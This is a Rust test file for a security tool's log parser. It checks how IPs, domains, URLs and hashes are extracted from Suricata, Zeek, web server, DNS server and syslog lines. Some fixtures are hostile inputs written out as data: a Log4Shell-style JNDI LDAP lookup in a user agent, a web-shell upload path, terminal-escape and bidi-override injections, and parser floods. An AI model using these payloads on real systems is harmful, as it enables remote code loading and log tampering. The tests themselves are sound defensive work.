//! One table a format: a line, and what it gives as `time host | field=kind:value …`, `!` before a field that the
//! sender chooses.

use super::*;

const READ_AT: &str = "2026-11-24T12:00:00Z";

fn read_at() -> Timestamp {
    Timestamp::parse(READ_AT).unwrap()
}

fn shown(outcome: &LineOutcome) -> String {
    match outcome {
        LineOutcome::Nothing => "nothing".to_owned(),
        LineOutcome::Bad(finding) => format!("bad {finding}"),
        LineOutcome::Observation(o) => {
            let mut out = format!("{} {} |", o.time, o.host);
            for s in &o.seen {
                let mark = if s.attacker_controlled { "!" } else { "" };
                out.push_str(&format!(" {mark}{}={}:{}", s.field, s.value.kind(), s.value.value()));
            }
            out
        }
    }
}

fn check(reader: &mut LogReader, line: impl AsRef<[u8]>, expected: &str) {
    let line = line.as_ref();
    let outcome = reader.line(line, read_at());
    assert_eq!(shown(&outcome), expected, "{:.300}", String::from_utf8_lossy(line));
    if let LineOutcome::Observation(o) = outcome {
        assert!(o.seen.len() <= pasban_kernel::limits::LINE_OBSERVABLES_MAX);
        assert!(o.line.len() <= LINE_BYTES_MAX);
    }
}

fn table(format: LogFormat, rows: &[(&str, &str)]) {
    let mut reader = LogReader::new(format);
    for (line, expected) in rows {
        check(&mut reader, line, expected);
    }
}

#[test]
fn eve() {
    table(
        LogFormat::Eve,
        &[
            // Outbound flow: the far end is seen, the near end is the host.
            (
                r#"{"timestamp":"2026-11-24T03:12:00.123456+0500","flow_id":1,"event_type":"flow","src_ip":"10.0.0.5","src_port":50000,"dest_ip":"198.51.100.7","dest_port":443,"proto":"TCP","flow":{"pkts_toserver":9,"state":"closed"}}"#,
                "2026-11-23T22:12:00.123456Z 10.0.0.5 | dest_ip=ip:198.51.100.7",
            ),
            // Inbound: the source is outside and is seen.
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"flow","src_ip":"198.51.100.7","dest_ip":"10.0.0.80","dest_port":443}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.80 | src_ip=ip:198.51.100.7",
            ),
            // DNS version 2 request, answer (record from port 53), grouped.
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"dns","src_ip":"10.0.0.5","src_port":5353,"dest_ip":"10.0.0.53","dest_port":53,"dns":{"type":"query","rrname":"Evil.Example","rrtype":"A"}}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.5 | dns.rrname=domain:evil.example",
            ),
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"dns","src_ip":"10.0.0.53","src_port":53,"dest_ip":"10.0.0.5","dest_port":5353,"dns":{"version":2,"type":"answer","rrname":"evil.example","rrtype":"A","answers":[{"rrname":"evil.example","rrtype":"CNAME","ttl":60,"rdata":"cdn.evil.example"},{"rrname":"x.evil.example","rrtype":"TXT","rdata":"not.taken.example"},{"rrname":"cdn.evil.example","rrtype":"A","rdata":"198.51.100.7"}],"grouped":{"A":["198.51.100.8"],"CNAME":["cdn.evil.example"],"TXT":["v=spf1"]}}}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.5 | dns.rrname=domain:evil.example dns.answers.rrname=domain:evil.example dns.answers.rdata=domain:cdn.evil.example dns.answers.rrname=domain:x.evil.example dns.answers.rrname=domain:cdn.evil.example dns.answers.rdata=ip:198.51.100.7 dns.grouped.A=ip:198.51.100.8 dns.grouped.CNAME=domain:cdn.evil.example",
            ),
            // Version 1 answer; version 3 answer.
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"dns","src_ip":"10.0.0.5","dest_ip":"10.0.0.53","dns":{"type":"answer","rrname":"evil.example","rrtype":"AAAA","rdata":"2001:db8::1"}}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.5 | dns.rrname=domain:evil.example dns.rdata=ip:2001:db8::1",
            ),
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"dns","src_ip":"10.0.0.5","dest_ip":"10.0.0.53","dns":{"version":3,"type":"response","queries":[{"rrname":"evil.example","rrtype":"A"}],"answers":[{"rrname":"evil.example","rrtype":"A","rdata":"198.51.100.7"}],"authorities":[{"rrname":"example","rrtype":"NS","rdata":"ns.evil.example"}]}}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.5 | dns.queries.rrname=domain:evil.example dns.answers.rrname=domain:evil.example dns.answers.rdata=ip:198.51.100.7 dns.authorities.rdata=domain:ns.evil.example",
            ),
            // HTTP: host and path make a URL, escapes undone; Referer and User-Agent are the sender's.
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"http","src_ip":"10.0.0.5","dest_ip":"198.51.100.7","dest_port":8080,"http":{"hostname":"evil.example","http_port":8080,"url":"\/a?b=1","http_user_agent":"curl (+http://bot.example)","http_refer":"https://ref.example/x"}}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.5 | dest_ip=ip:198.51.100.7 http.hostname=domain:evil.example http.url=domain:evil.example http.url=url:http://evil.example:8080/a?b=1 !http.http_user_agent=domain:bot.example !http.http_user_agent=url:http://bot.example/ !http.http_refer=domain:ref.example !http.http_refer=url:https://ref.example/x",
            ),
            // The same towards our own server: what the stranger typed is marked.
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"tls","src_ip":"203.0.113.9","dest_ip":"10.0.0.80","tls":{"sni":"evil.example","subject":"C=PK, CN=claim.example","fingerprint":"00:11:22:33:44:55:66:77:88:99:aa:bb:cc:dd:ee:ff:00:11:22:33","ja3":{"hash":"00112233445566778899aabbccddeeff"}}}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.80 | src_ip=ip:203.0.113.9 tls.fingerprint=sha1:00112233445566778899aabbccddeeff00112233 !tls.sni=domain:evil.example !tls.subject=domain:claim.example",
            ),
            // An alert on a packet that came back: the flow says who the client was, so the host header is ours.
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"alert","src_ip":"198.51.100.7","src_port":80,"dest_ip":"10.0.0.5","dest_port":50000,"alert":{"signature":"see http://rule.example/","metadata":{"x":["rule.example"]}},"http":{"hostname":"evil.example","url":"/"},"files":[{"filename":"/p/a.exe","sha256":"00000000000000000000000000000000000000000000000000000000000000AA"}],"direction":"to_client"}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.5 | src_ip=ip:198.51.100.7 http.hostname=domain:evil.example files.filename=file-name:a.exe files.sha256=sha256:00000000000000000000000000000000000000000000000000000000000000aa http.url=domain:evil.example http.url=url:http://evil.example/",
            ),
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"smtp","src_ip":"203.0.113.9","dest_ip":"10.0.0.25","smtp":{"helo":"mail.evil.example","mail_from":"<ceo@evil.example>","rcpt_to":["<a@bank.example>"]},"email":{"from":"\"Boss, CEO\" <boss@evil.example>","subject":"see http://pay.example/","attachment":["bill.xlsm"],"url":["pay.example/x"]}}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.25 | src_ip=ip:203.0.113.9 !smtp.helo=domain:mail.evil.example !smtp.mail_from=domain:evil.example !smtp.mail_from=email:ceo@evil.example !smtp.rcpt_to=domain:bank.example !smtp.rcpt_to=email:a@bank.example !email.from=domain:evil.example !email.from=email:boss@evil.example !email.subject=domain:pay.example !email.subject=url:http://pay.example/ !email.attachment=file-name:bill.xlsm !email.url=domain:pay.example !email.url=url:http://pay.example/x",
            ),
            // Repeated keys are all seen.
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","src_ip":"10.0.0.5","dest_ip":"198.51.100.7","dest_ip":"198.51.100.8"}"#,
                "2026-11-24T03:12:00.000Z 10.0.0.5 | dest_ip=ip:198.51.100.8 dest_ip=ip:198.51.100.7",
            ),
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"stats","stats":{"uptime":1,"dns":{"rrname":"no.example"}}}"#,
                "nothing",
            ),
            (
                r#"{"timestamp":"2026-11-24T03:12:00+0000","event_type":"flow","src_ip":"10.0.0.5","dest_ip":"10.0.0.6"}"#,
                "nothing",
            ),
            ("", "nothing"),
            ("\r\n", "nothing"),
            ("not json", "bad line 16: not a JSON object"),
            (r#"{"a":[1,}"#, "bad line 17, column 10: ends inside an object or array"),
        ],
    );
}

#[test]
fn json_lines_guessed_and_configured() {
    table(
        LogFormat::JsonLines,
        &[
            // Elastic, nested and flat.
            (
                r#"{"@timestamp":"2026-11-24T03:12:00.5Z","source":{"ip":"10.0.0.5"},"destination":{"ip":"198.51.100.7","domain":"evil.example"},"url":{"full":"https://evil.example/a"},"file":{"hash":{"md5":"00112233445566778899AABBCCDDEEFF"}}}"#,
                "2026-11-24T03:12:00.500Z 10.0.0.5 | destination.ip=ip:198.51.100.7 destination.domain=domain:evil.example url.full=domain:evil.example url.full=url:https://evil.example/a file.hash.md5=md5:00112233445566778899aabbccddeeff",
            ),
            (
                r#"{"@timestamp":1795499520123,"source.ip":"10.0.0.5","dns.question.name":"evil.example","dns.answers":[{"type":"TXT","data":"no.example"},{"type":"A","data":"198.51.100.7"}]}"#,
                "2026-11-24T05:52:00.123Z 10.0.0.5 | dns.question.name=domain:evil.example dns.answers.data=ip:198.51.100.7",
            ),
            // Sysmon through winlogbeat: names found by their last part.
            (
                r#"{"@timestamp":"2026-11-24T03:12:00Z","host":{"name":"pc7"},"winlog":{"event_data":{"QueryName":"evil.example","Hashes":"SHA1=0011223344556677889900112233445566778899,MD5=00112233445566778899AABBCCDDEEFF","Image":"C:\\tmp\\a.exe"}}}"#,
                "2026-11-24T03:12:00.000Z pc7 | winlog.event_data.QueryName=domain:evil.example winlog.event_data.Hashes=sha1:0011223344556677889900112233445566778899 winlog.event_data.Hashes=md5:00112233445566778899aabbccddeeff winlog.event_data.Image=file-name:a.exe",
            ),
            (r#"{"message":"http://nowhere.example/ 198.51.100.9","level":"info"}"#, "nothing"),
        ],
    );
    let rules: Vec<FieldRule> = serde_json::from_str(
        r#"[{"name":"when","takes":"time"},{"name":"x.peer","takes":"any"},{"name":"note","takes":"prose","attacker_controlled":true},{"name":"who","takes":"machine"}]"#,
    )
    .unwrap();
    let mut reader = LogReader::new(LogFormat::JsonLines).with_fields(&rules).with_zone_minutes(300);
    check(
        &mut reader,
        r#"{"when":"2026-11-24 08:00:00","x":[{"peer":"Evil.Example"},{"peer":"198.51.100.0/24"},{"peer":"10.0.0.1"}],"note":"see http://a.example","who":"pc\u001b[7m1","url":"http://ignored.example/"}"#,
        "2026-11-24T03:00:00.000Z pc[7m1 | x.peer=domain:evil.example x.peer=cidr:198.51.100.0/24 !note=domain:a.example !note=url:http://a.example/",
    );
}

#[test]
fn zeek() {
    let mut reader = LogReader::new(LogFormat::ZeekTsv);
    for (line, expected) in [
        ("1795499520.5\t10.0.0.5", "bad line 1: a Zeek record before any #fields line; the file's beginning is wanted"),
        ("#separator \\x09", "nothing"),
        ("#set_separator\t,", "nothing"),
        ("#empty_field\t(empty)", "nothing"),
        ("#unset_field\t-", "nothing"),
        ("#path\tdns", "nothing"),
        ("#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tquery\tanswers\tTTLs", "nothing"),
        ("#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tvector[string]\tvector[interval]", "nothing"),
        (
            "1795499520.500000\tC1\t10.0.0.5\t5353\t10.0.0.53\t53\tevil.example\tcdn.evil.example,198.51.100.7,TXT 3 a\\x2cb,-\t60.0",
            "2026-11-24T05:52:00.500Z 10.0.0.5 | query=domain:evil.example answers=domain:cdn.evil.example answers=ip:198.51.100.7",
        ),
        (
            "1795499520.5\tC1\t10.0.0.5\t5353\t203.0.113.53\t53\t-\t(empty)\t-",
            "2026-11-24T05:52:00.500Z 10.0.0.5 | id.resp_h=ip:203.0.113.53",
        ),
        ("1795499520.5\tC1\t10.0.0.5", "bad line 11: 3 columns where the #fields line names 9"),
        // Another log follows in the same file, with another separator.
        ("#close\t2026-11-24-05-52-01", "nothing"),
        ("#separator \\x7c", "nothing"),
        ("#path|http", "nothing"),
        ("#fields|ts|id.orig_h|id.resp_h|host|uri|user_agent|tags", "nothing"),
        (
            "1795499520.5|10.0.0.5|198.51.100.7|evil.example|/a\\x7cb|curl|(empty)",
            "2026-11-24T05:52:00.500Z 10.0.0.5 | id.resp_h=ip:198.51.100.7 host=domain:evil.example uri=domain:evil.example uri=url:http://evil.example/a|b",
        ),
        ("#path|software", "nothing"),
        ("#fields|ts|host|name", "nothing"),
        ("1795499520.5|198.51.100.7|evil.example", "nothing"),
    ] {
        check(&mut reader, line, expected);
    }
    table(
        LogFormat::ZeekJson,
        &[
            (
                r#"{"_path":"ssl","ts":"2026-11-24T05:52:00.5Z","id.orig_h":"10.0.0.5","id.resp_h":"198.51.100.7","server_name":"evil.example","subject":"CN=x.example"}"#,
                "2026-11-24T05:52:00.500Z 10.0.0.5 | id.resp_h=ip:198.51.100.7 server_name=domain:evil.example !subject=domain:x.example",
            ),
            (
                r#"{"ts":1795499520.5,"uid":"C1","id.orig_h":"10.0.0.5","id.resp_h":"198.51.100.7","trans_depth":1,"method":"GET","host":"evil.example:8080","uri":"/a","referrer":"http://r.example/"}"#,
                "2026-11-24T05:52:00.500Z 10.0.0.5 | id.resp_h=ip:198.51.100.7 host=domain:evil.example uri=domain:evil.example uri=url:http://evil.example:8080/a !referrer=domain:r.example !referrer=url:http://r.example/",
            ),
            (
                r#"{"ts":1795499520.5,"uid":"C1","id.orig_h":"203.0.113.9","id.resp_h":"10.0.0.25","trans_depth":1,"helo":"evil.example","mailfrom":"a@evil.example","subject":"http://s.example/","path":["10.0.0.25","203.0.113.9"]}"#,
                "2026-11-24T05:52:00.500Z 10.0.0.25 | id.orig_h=ip:203.0.113.9 !helo=domain:evil.example !mailfrom=domain:evil.example !mailfrom=email:a@evil.example !subject=domain:s.example !subject=url:http://s.example/ !path=ip:203.0.113.9",
            ),
            (
                r#"{"_path":"files","ts":1795499520.5,"tx_hosts":["198.51.100.7","198.51.100.8"],"rx_hosts":["10.0.0.5"],"md5":"00112233445566778899aabbccddeeff","filename":"a.exe"}"#,
                "2026-11-24T05:52:00.500Z 10.0.0.5 | tx_hosts=ip:198.51.100.8 tx_hosts=ip:198.51.100.7 md5=md5:00112233445566778899aabbccddeeff filename=file-name:a.exe",
            ),
        ],
    );
}

#[test]
fn access() {
    table(
        LogFormat::Access,
        &[
            (
                r#"203.0.113.9 - - [24/Nov/2026:08:12:00 +0500] "GET /a HTTP/1.1" 200 12"#,
                "2026-11-24T03:12:00.000Z  | remote_addr=ip:203.0.113.9",
            ),
            // Combined; the agent has quotes in both servers' spelling.
            (
                r#"2001:db8::9 - ali [24/Nov/2026:08:12:00 +0500] "GET /x?u=http%3A%2F%2Fevil.example%2Fs.sh HTTP/1.1" 404 0 "https://ref.example/p" "a \"b\" \x22c\x22 ${jndi:ldap://198.51.100.7/a}""#,
                "2026-11-24T03:12:00.000Z  | remote_addr=ip:2001:db8::9 !request=domain:evil.example !request=url:http://evil.example/s.sh !http_referer=domain:ref.example !http_referer=url:https://ref.example/p !http_user_agent=ip:198.51.100.7",
            ),
            // Virtual host with port in front: the URL is known. A forwarded-for list at the end is a claim.
            (
                r#"www.bank.example:443 203.0.113.9 - - [24/Nov/2026:08:12:00 +0500] "POST /up/shell.php HTTP/2.0" 200 12 "-" "-" "198.51.100.7, 10.0.0.5""#,
                "2026-11-24T03:12:00.000Z www.bank.example | remote_addr=ip:203.0.113.9 !vhost=domain:www.bank.example !http_x_forwarded_for=ip:198.51.100.7 !request=domain:www.bank.example !request=url:https://www.bank.example/up/shell.php",
            ),
            (
                r#"www.bank.example 203.0.113.9 - - [24/Nov/2026:08:12:00 +0500] "GET / HTTP/2.0" 200 12"#,
                "2026-11-24T03:12:00.000Z www.bank.example | remote_addr=ip:203.0.113.9",
            ),
            // Proxy requests.
            (
                r#"10.0.0.5 - - [24/Nov/2026:08:12:00 +0500] "GET http://evil.example/a b HTTP/1.1" 200 12"#,
                "2026-11-24T03:12:00.000Z 10.0.0.5 | !request=domain:evil.example !request=url:http://evil.example/a%20b",
            ),
            (
                r#"10.0.0.5 - - [24/Nov/2026:08:12:00 +0500] "CONNECT evil.example:443 HTTP/1.1" 200 12"#,
                "2026-11-24T03:12:00.000Z 10.0.0.5 | !request=domain:evil.example",
            ),
            // A user name that plants a bracket and a quote moves nothing but itself.
            (
                r#"203.0.113.9 - x [y] "GET http://fake.example/ HTTP/1.1" [24/Nov/2026:08:12:00 +0500] "GET / HTTP/1.1" 401 0 "-" "-""#,
                "2026-11-24T03:12:00.000Z  | remote_addr=ip:203.0.113.9",
            ),
            // Rubbish from scanners.
            (
                r#"203.0.113.9 - - [24/Nov/2026:08:12:00 +0500] "\x16\x03\x01" 400 0 "-" "-""#,
                "2026-11-24T03:12:00.000Z  | remote_addr=ip:203.0.113.9",
            ),
            (
                r#"203.0.113.9 - - [24/Nov/2026:08:12:00 +0500] "" 400 0"#,
                "2026-11-24T03:12:00.000Z  | remote_addr=ip:203.0.113.9",
            ),
            ("hello", "bad line 10: not an access log line (client, ident, user, [time], \"request\", status, size)"),
        ],
    );
}

#[test]
fn unbound() {
    table(
        LogFormat::Unbound,
        &[
            (
                "[1795499520] unbound[812:0] info: 10.0.0.5 evil.example. A IN",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "[1795499520] unbound[812:0] reply: fd00::5 Evil.example. AAAA IN NXDOMAIN 0.012345 0 62",
                "2026-11-24T05:52:00.000Z fd00::5 | query=domain:evil.example",
            ),
            (
                "Nov 24 05:52:00 unbound[812:0] query: 10.0.0.5 evil.example. TYPE65 IN",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "2026-11-24T05:52:00.500+00:00 unbound[812:0] info: 10.0.0.5 evil.example. HTTPS IN",
                "2026-11-24T05:52:00.500Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "<30>Nov 24 05:52:00 ns1 unbound: [812:0] info: 10.0.0.5 evil.example. A IN NOERROR 0.000000 1 45",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "Nov 24 05:52:00 ns1 unbound[812]: [812:0] info: bad.example. redirect 10.0.0.5@40000 www.bad.example. A IN",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | query=domain:www.bad.example",
            ),
            (
                "[1795499520] unbound[812:0] info: rpz: applied [pasban] *.evil.example. nxdomain 10.0.0.5@40000 a.evil.example. A IN",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | query=domain:a.evil.example",
            ),
            // From outside: the stranger chose the name.
            (
                "[1795499520] unbound[812:0] info: 203.0.113.9 evil.example. A IN",
                "2026-11-24T05:52:00.000Z 203.0.113.9 | client=ip:203.0.113.9 !query=domain:evil.example",
            ),
            ("[1795499520] unbound[812:0] info: start of service (unbound 1.19.2).", "nothing"),
            ("[1795499520] unbound[812:0] error: 10.0.0.5 evil.example. A IN", "nothing"),
            (
                "Nov 24 05:52:00 ns1 sshd[1]: x",
                "bad line 11: not an Unbound log line (time, unbound[pid:thread], level, message)",
            ),
        ],
    );
}

#[test]
fn bind() {
    table(
        LogFormat::Bind,
        &[
            (
                "24-Nov-2026 05:52:00.123 queries: info: client @0x7f8e9c0ab123 10.0.0.5#53124 (Evil.Example): query: Evil.Example IN A +E(0)K (10.0.0.53)",
                "2026-11-24T05:52:00.123Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "24-Nov-2026 05:52:00.123 client 10.0.0.5#53124: view internal: query: evil.example IN AAAA + (10.0.0.53)",
                "2026-11-24T05:52:00.123Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "2026-11-24T05:52:00.123Z queries: info: client @0x7f 10.0.0.5#1 (evil.example): query: evil.example IN A +",
                "2026-11-24T05:52:00.123Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "24-Nov-2026 05:52:00.123 rpz: info: client @0x7f 10.0.0.5#1 (a.evil.example): view internal: rpz QNAME NXDOMAIN rewrite a.evil.example/A/IN via a.evil.example.rpz.local",
                "2026-11-24T05:52:00.123Z 10.0.0.5 | query=domain:a.evil.example",
            ),
            (
                "24-Nov-2026 05:52:00.123 query-errors: info: client @0x7f 10.0.0.5#1 (evil.example): query failed (SERVFAIL) for evil.example/IN/A at query.c:7837",
                "2026-11-24T05:52:00.123Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "24-Nov-2026 05:52:00.123 responses: info: client @0x7f fd00::5#1 (evil.example): response: evil.example IN A NOERROR + 1 0 1 (10.0.0.53)",
                "2026-11-24T05:52:00.123Z fd00::5 | query=domain:evil.example",
            ),
            (
                "Nov 24 05:52:00 ns1 named[77]: client @0x7f 10.0.0.5#1 (evil.example): query: evil.example IN A + (10.0.0.53)",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "2026-11-24T05:52:00+00:00 ns1 named[77]: queries: client 10.0.0.5#1 (evil.example): query: evil.example IN A +",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | query=domain:evil.example",
            ),
            ("24-Nov-2026 05:52:00.123 general: info: running", "nothing"),
            (
                "24-Nov-2026 05:52:00.123 client 10.0.0.5#1 (a.example): zone transfer 'query: evil.example IN A' denied",
                "nothing",
            ),
        ],
    );
}

#[test]
fn syslog() {
    table(
        LogFormat::Syslog,
        &[
            // RFC 5424, structured data and JSON inside.
            (
                r#"<165>1 2026-11-24T05:52:00.003Z fw1 fw - ID1 [net@32473 src="10.0.0.5" dst="198.51.100.7" note="a \"]\" b"][x@32473 url="http://evil.example/"] text"#,
                "2026-11-24T05:52:00.003Z 10.0.0.5 | net@32473.dst=ip:198.51.100.7 x@32473.url=domain:evil.example x@32473.url=url:http://evil.example/",
            ),
            (
                r#"<14>1 2026-11-24T05:52:00Z ids suricata 7 - - {"timestamp":"2026-11-24T05:51:59+0000","event_type":"flow","src_ip":"10.0.0.5","dest_ip":"198.51.100.7"}"#,
                "2026-11-24T05:51:59.000Z 10.0.0.5 | dest_ip=ip:198.51.100.7",
            ),
            (
                r#"<14>Nov 24 05:52:00 app1 svc[3]: @cee: {"client_ip":"203.0.113.9","url":"http://evil.example/"}"#,
                "2026-11-24T05:52:00.000Z app1 | client_ip=ip:203.0.113.9 !url=domain:evil.example !url=url:http://evil.example/",
            ),
            // Firewalls.
            (
                "<4>Nov 24 05:52:00 fw1 kernel: [12345.678] FW-DROP: IN=eth0 OUT=eth1 MAC= SRC=10.0.0.5 DST=198.51.100.7 LEN=60 DF PROTO=TCP SPT=50000 DPT=443 SYN URGP=0",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | DST=ip:198.51.100.7",
            ),
            (
                r#"<189>Nov 24 05:52:00 fg date=2026-11-24 time=05:51:58 devname="FG" srcip=10.0.0.5 dstip=198.51.100.7 hostname="evil.example" url="http://evil.example/\"x" msg="dst=192.0.2.1""#,
                "2026-11-24T05:51:58.000Z 10.0.0.5 | dstip=ip:198.51.100.7 url=domain:evil.example url=url:http://evil.example/%22x",
            ),
            // Servers through syslog.
            (
                "<30>Nov 24 05:52:00 ns1 unbound[9]: [9:0] info: 10.0.0.5 evil.example. A IN",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                "<30>1 2026-11-24T05:52:00Z ns1 named 77 - - client @0x7f 10.0.0.5#1 (evil.example): query: evil.example IN A +",
                "2026-11-24T05:52:00.000Z 10.0.0.5 | query=domain:evil.example",
            ),
            (
                r#"<190>Nov 24 05:52:00 web1 nginx: 203.0.113.9 - - [24/Nov/2026:05:51:59 +0000] "GET / HTTP/1.1" 200 1 "-" "-""#,
                "2026-11-24T05:51:59.000Z web1 | remote_addr=ip:203.0.113.9",
            ),
            // Anyone can make sshd log a word of theirs: a sentence is not read.
            (
                "<38>Nov 24 05:52:00 srv sshd[1]: Failed password for invalid user src=192.0.2.1 dst=192.0.2.2 url=http://evil.example from 203.0.113.9 port 22 ssh2",
                "nothing",
            ),
            ("<38>Nov 24 05:52:00 srv sshd[1]: a=b c=d dst=192.0.2.1 from here", "nothing"),
            ("no syslog", "bad line 11: not syslog (a time by RFC 3164 or RFC 5424 is wanted after <PRI>)"),
            (
                "<165>1 2026-11-24T05:52:00Z h a - - [x y=\"",
                "bad line 12: not syslog (a time by RFC 3164 or RFC 5424 is wanted after <PRI>)",
            ),
        ],
    );
}

#[test]
fn times_that_cannot_be_are_replaced_and_flagged() {
    let mut reader = LogReader::new(LogFormat::Eve);
    let line = |t: &str| format!(r#"{{{t}"src_ip":"10.0.0.5","dest_ip":"198.51.100.7"}}"#);
    for (time, absurd, missing, expected) in [
        (r#""timestamp":"2026-11-25T12:00:00Z","#, false, false, "2026-11-25T12:00:00.000Z"),
        (r#""timestamp":"2026-11-25T12:00:01Z","#, true, false, "2026-11-24T12:00:00.000Z"),
        (r#""timestamp":"1999-12-31T23:59:59Z","#, true, false, "2026-11-24T12:00:00.000Z"),
        (r#""timestamp":"yesterday","#, true, false, "2026-11-24T12:00:00.000Z"),
        ("", false, true, "2026-11-24T12:00:00.000Z"),
    ] {
        check(&mut reader, line(time), &format!("{expected} 10.0.0.5 | dest_ip=ip:198.51.100.7"));
        assert_eq!((reader.notes().time_absurd, reader.notes().time_missing), (absurd, missing), "{time}");
    }
    assert_eq!(reader.counts().time_absurd, 3);
    // Where days are kept, what claims to be older is dated by its reading too; what is within them is as it was.
    let mut reader = LogReader::new(LogFormat::Eve).with_keep_days(90);
    for (time, claimed, expected) in [
        ("2026-09-01T00:00:00Z", None, "2026-09-01T00:00:00.000Z"),
        ("2016-11-24T12:00:00Z", Some("2016-11-24T12:00:00.000Z"), "2026-11-24T12:00:00.000Z"),
        ("2036-11-24T12:00:00Z", Some("2036-11-24T12:00:00.000Z"), "2026-11-24T12:00:00.000Z"),
    ] {
        let line = line(&format!(r#""timestamp":"{time}","#));
        check(&mut reader, line, &format!("{expected} 10.0.0.5 | dest_ip=ip:198.51.100.7"));
        assert_eq!(reader.notes().claimed.map(pasban_kernel::Timestamp::rfc3339).as_deref(), claimed, "{time}");
    }
}

#[test]
fn own_ranges_decide_who_is_inside() {
    let own = pasban_kernel::Observable::cidr("203.0.113.0/24").unwrap();
    let mut reader = LogReader::new(LogFormat::Eve).with_internal(Internal::default().with(&own));
    check(
        &mut reader,
        r#"{"timestamp":"2026-11-24T05:52:00Z","src_ip":"203.0.113.5","dest_ip":"198.51.100.7","tls":{"sni":"evil.example"}}"#,
        "2026-11-24T05:52:00.000Z 203.0.113.5 | dest_ip=ip:198.51.100.7 tls.sni=domain:evil.example",
    );
    check(
        &mut reader,
        r#"{"timestamp":"2026-11-24T05:52:00Z","src_ip":"198.51.100.7","dest_ip":"203.0.113.5","tls":{"sni":"evil.example"}}"#,
        "2026-11-24T05:52:00.000Z 203.0.113.5 | src_ip=ip:198.51.100.7 !tls.sni=domain:evil.example",
    );
}

#[test]
fn hostile_lines() {
    // A line that is cut gives what stood before the cut.
    let mut reader = LogReader::new(LogFormat::Eve);
    let long = format!(
        r#"{{"timestamp":"2026-11-24T05:52:00Z","src_ip":"10.0.0.5","dest_ip":"198.51.100.7","payload":"{}","dns":{{"rrname":"late.example"}}}}"#,
        "é".repeat(LINE_BYTES_MAX)
    );
    check(&mut reader, &long, "2026-11-24T05:52:00.000Z 10.0.0.5 | dest_ip=ip:198.51.100.7");
    assert!(reader.notes().cut && !reader.notes().not_utf8);
    check(
        &mut reader,
        "x".repeat(LINE_BYTES_MAX + 1),
        "bad line 2: not a JSON object; the line is longer than 65536 bytes and was cut",
    );
    // NUL, bad UTF-8, escapes: named by the notes, stopped by the kinds.
    check(
        &mut reader,
        b"\0\0\0{\"dest_ip\":\"198.51.100.7\",\"src_ip\":\"10.0.0.5\"}",
        "2026-11-24T12:00:00.000Z 10.0.0.5 | dest_ip=ip:198.51.100.7",
    );
    let mut bytes = br#"{"dest_ip":"198.51.100.7","src_ip":"10.0.0.5","x":""#.to_vec();
    bytes.extend(b"\xff\0\x1b[2J\"}\r\n");
    check(&mut reader, &bytes, "2026-11-24T12:00:00.000Z 10.0.0.5 | dest_ip=ip:198.51.100.7");
    assert!(reader.notes().not_utf8 && reader.notes().nul);
    check(
        &mut reader,
        "\u{feff}{\"tls\":{\"sni\":\"e\\u001b[31mvil.example\"},\"fileinfo\":{\"filename\":\"a\\u0000b\"},\"http\":{\"hostname\":\"a\\nb.example\",\"url\":\"/\"}}",
        "nothing",
    );
    // A key that ends like a known name is shown without what it carries.
    let mut open = LogReader::new(LogFormat::JsonLines);
    check(
        &mut open,
        r#"{"a\u001b[2J\u202e.src_ip":"10.0.0.5","\u001b]0;x.dst_ip":"198.51.100.7","computer":"p\u202ec"}"#,
        "2026-11-24T12:00:00.000Z 10.0.0.5 | ?]0;x.dst_ip=ip:198.51.100.7",
    );
    // Flooding one field pushes out nothing that the sender cannot choose.
    let flood: String = (0..1000).map(|i| format!("\"f{i}@evil.example\",")).collect();
    check_flood(
        &mut reader,
        &format!(
            r#"{{"email":{{"to":[{flood}"x"]}},"dns":{{"rrname":"real.example"}},"src_ip":"10.0.0.5","dest_ip":"198.51.100.7"}}"#
        ),
    );
    // Depth, and a path with very many parts, cost no time.
    check(&mut reader, "[".repeat(LINE_BYTES_MAX), "nothing");
    check(&mut reader, format!("{{\"a\":{}", "{\"a\":".repeat(10_000)), "bad line 8, column 321: nested too deep");
}

fn check_flood(reader: &mut LogReader, line: &str) {
    let LineOutcome::Observation(o) = reader.line(line.as_bytes(), read_at()) else { panic!("no observation") };
    assert_eq!(o.seen.len(), pasban_kernel::limits::LINE_OBSERVABLES_MAX);
    let first: Vec<_> = o.seen.iter().take(2).map(|s| s.value.value()).collect();
    assert_eq!(first, ["198.51.100.7", "real.example"]);
    assert!(reader.notes().too_many || reader.notes().cut);
}

